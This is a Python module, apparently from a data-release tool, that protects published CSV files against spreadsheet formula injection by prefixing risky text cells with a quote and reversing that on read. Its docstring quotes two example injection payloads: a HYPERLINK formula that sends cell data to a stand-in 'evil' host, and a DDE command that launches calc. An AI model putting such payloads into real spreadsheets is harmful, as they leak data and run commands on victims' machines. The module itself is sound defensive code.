"""Published CSV cells that a spreadsheet would run as formulas, and how they are kept text.

A data value such as ``=HYPERLINK("http://evil/?"&A2,"click")`` or ``@SUM(1+1)*cmd|' /C
calc'!A0`` is only text to kerckhoffs, but a spreadsheet opening the published CSV reads a
cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula and
may run it (CSV injection; OWASP, "CSV Injection", the characters and the remedy below). The
SA values and the columns ``--include-other`` publishes come straight from the data, so a
release must not hand them to a spreadsheet as formulas.

**What is written.** OWASP's remedy: such a cell gets a leading ``'``, which spreadsheets read
as "this cell is text" and do not show. Two exceptions keep releases readable and exact:

- a cell that is a plain number (``-5``, ``+1.5``, ``-2e-3``: a noisy count, a numeric QI's
  value) is left alone: a spreadsheet reads it as that number, which is what it is;
- a cell that already starts with ``'`` before such a character (``'=x``, ``''+1``) gets one
  more ``'``, so that reading back can tell an added quote from the data's own.

Only text cells are concerned (numeric columns hold numbers only), only in CSV files: Parquet
keeps types and is not opened as a formula sheet, so it holds the values unchanged. Header
cells (column names, chosen by the publisher in the schema) are not changed.

**What is read.** :func:`restore_formulas` removes exactly the quote :func:`protect_formulas`
added: a cell ``'`` + ``'``* + one of the characters loses its first ``'``; nothing else
changes. A release records in ``release.json`` that its CSV files were written so
(:data:`META_KEY`), and kerckhoffs undoes it when it reads its own release back; another tool
reading ``release.csv`` sees the quote, as a spreadsheet's user does not.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import TYPE_CHECKING

import pandas as pd

if TYPE_CHECKING:
    import pyarrow as pa

PREFIX = "'"
TRIGGERS = "=+-@\t\r"
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""
META_KEY = "csv_formula_prefix"
"""The ``release.json`` field saying that the CSV files' text cells that would start a formula
carry :data:`PREFIX` (its value); absent in releases written before this protection."""

_NEEDS = r"^'*[=+\-@\t\r]"
_NUMBER = r"^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$"
_ADDED = r"^''*[=+\-@\t\r]"


def _protect_text(arr: pa.Array) -> tuple[pa.Array, pa.Array] | None:
    """(which cells need :data:`PREFIX`, the array with it added there), or None when no
    cell does (the usual release: nothing to rewrite)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    need = pc.fill_null(
        pc.and_(
            pc.match_substring_regex(arr, _NEEDS),
            pc.invert(pc.match_substring_regex(arr, _NUMBER)),
        ),
        False,
    )
    if not pc.any(need).as_py():
        return None
    sep = pa.scalar("", arr.type)
    return need, pc.binary_join_element_wise(pa.scalar(PREFIX, arr.type), arr, sep)


def _restore_text(arr: pa.Array) -> tuple[pa.Array, pa.Array] | None:
    """(which cells carry an added :data:`PREFIX`, the array with it removed), or None when
    none does."""
    import pyarrow.compute as pc

    added = pc.fill_null(pc.match_substring_regex(arr, _ADDED), False)
    if not pc.any(added).as_py():
        return None
    return added, pc.utf8_slice_codeunits(arr, 1)


Rewrite = Callable[["pa.Array"], "tuple[pa.Array, pa.Array] | None"]


def _text(values: object) -> pa.Array | None:
    """``values`` as one arrow text array, or None when they are not all text (or missing)."""
    import pyarrow as pa

    try:
        arr = pa.array(values, from_pandas=True)
    except (pa.ArrowInvalid, pa.ArrowTypeError):
        return None
    if isinstance(arr, pa.ChunkedArray):
        arr = arr.combine_chunks()
    if not (pa.types.is_string(arr.type) or pa.types.is_large_string(arr.type)):
        return None
    return arr.cast(pa.large_string())


def _rewrite(df: pd.DataFrame, rewrite: Rewrite) -> pd.DataFrame:
    """``df`` with ``rewrite`` applied to every text column: to a categorical's categories
    (not its rows), to a ``str`` or object column through arrow (no Python loop over rows),
    its other cells (missing ones included) kept as they are."""
    import numpy as np

    changed: dict[str, pd.Series] = {}
    for name in df.columns:
        col = df[name]
        categorical = isinstance(col.dtype, pd.CategoricalDtype)
        if not (categorical or isinstance(col.dtype, pd.StringDtype) or col.dtype == object):
            continue
        arr = _text(col.cat.categories.to_numpy(dtype=object) if categorical else col.array)
        done = rewrite(arr) if arr is not None else None
        if done is None:
            continue
        mask, new = done
        if categorical:
            import pyarrow.compute as pc

            cats = pc.if_else(mask, new, arr).to_pylist()
            changed[name] = col.cat.rename_categories(cats)
        else:
            where = np.asarray(mask.to_numpy(zero_copy_only=False), dtype=bool)
            values = pd.Series(new.to_pandas(), index=col.index).astype(col.dtype)
            changed[name] = col.mask(where, values)
    return df.assign(**changed) if changed else df


def protect_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` as its CSV file holds it: every text cell a spreadsheet would read as a formula
    prefixed with ``'`` (see the module's docstring); ``df`` itself is not changed.

    >>> protect_formulas(pd.DataFrame({"sa": ["=1+1", "-5", "'@x", "flu"]}))["sa"].tolist()
    ["'=1+1", '-5', "''@x", 'flu']
    """
    return _rewrite(df, _protect_text)


def restore_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """The inverse of :func:`protect_formulas`: ``df`` read from a CSV file written so, with
    the added quotes removed.

    >>> restore_formulas(pd.DataFrame({"sa": ["'=1+1", "-5", "''@x", "'flu"]}))["sa"].tolist()
    ['=1+1', '-5', "'@x", "'flu"]
    """
    return _rewrite(df, _restore_text)


__all__ = ["META_KEY", "PREFIX", "TRIGGERS", "protect_formulas", "restore_formulas"]
